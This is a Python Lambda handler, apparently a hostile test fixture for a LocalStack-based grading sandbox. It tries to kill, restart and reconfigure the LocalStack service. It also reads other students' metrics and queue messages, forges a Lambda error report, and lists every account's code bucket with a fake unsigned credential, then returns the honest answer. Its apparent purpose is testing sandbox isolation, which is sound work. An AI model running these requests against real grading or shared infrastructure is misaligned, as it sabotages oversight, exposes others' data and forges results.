"""Hostile: try to stop, restart and reconfigure the grading LocalStack, read classmates'
data and forge a Lambda's answer through LocalStack's own endpoints; then create the code
as the exercise asks (so the workflow itself earns every point)."""

import http.client
import json
import os
from urllib.parse import urlsplit

from create_code_honest import lambda_handler as honest_handler

ENDPOINT = urlsplit(os.environ["AWS_ENDPOINT_URL"])
ATTACKS = [
    ("POST", "/_localstack/health", {"action": "kill"}),
    ("POST", "/_localstack/health", {"action": "restart"}),
    ("PUT", "/_localstack/health", {"services": {"lambda": "error"}}),
    ("POST", "/_localstack/config", {"variable": "LAMBDA_RUNTIME_EXECUTOR", "value": "docker"}),
    ("GET", "/_localstack/diagnose", None),
    ("GET", "/_aws/cloudwatch/metrics/raw", None),
    ("GET", "/_aws/sqs/messages/us-east-1/000000000000/anything", None),
]


def forged_report(context):
    """A start-up failure reported for an environment: its own, whose id LocalStack puts
    in the log stream's name (`2026/01/01/[$LATEST]<id>`), as it would another's."""
    runtime = context.log_stream_name.rpartition("]")[2] or "x"
    return (
        "POST",
        f"/_localstack_lambda/{runtime}/status/{runtime}/error",
        {"errorType": "Forged"},
    )


def attack(method, path, body):
    connection = http.client.HTTPConnection(ENDPOINT.hostname, ENDPOINT.port, timeout=5)
    try:
        connection.request(method, path, body=None if body is None else json.dumps(body))
        return connection.getresponse().status
    except Exception as error:
        return repr(error)
    finally:
        connection.close()


def list_code_bucket():
    """S3's ListObjectsV2 of LocalStack's bucket of every account's Lambda code, as
    LocalStack's internal account (LocalStack reads the account from the credential and
    checks no signature)."""
    credential = "949334387222/20260101/us-east-1/s3/aws4_request"
    headers = {
        "Authorization": f"AWS4-HMAC-SHA256 Credential={credential}, SignedHeaders=host, "
        "Signature=0",
        "x-amz-content-sha256": "UNSIGNED-PAYLOAD",
        "x-amz-date": "20260101T000000Z",
    }
    connection = http.client.HTTPConnection(ENDPOINT.hostname, ENDPOINT.port, timeout=5)
    try:
        connection.request("GET", "/awslambda-us-east-1-tasks?list-type=2", headers=headers)
        response = connection.getresponse()
        return response.status, response.read(200).decode("utf-8", "replace")
    except Exception as error:
        return repr(error)
    finally:
        connection.close()


def lambda_handler(event, context):
    attacks = [*ATTACKS, forged_report(context)]
    tried = {f"{method} {path}": attack(method, path, body) for method, path, body in attacks}
    tried["list code bucket"] = list_code_bucket()
    print(json.dumps({"tried": tried}))
    return honest_handler(event, context)
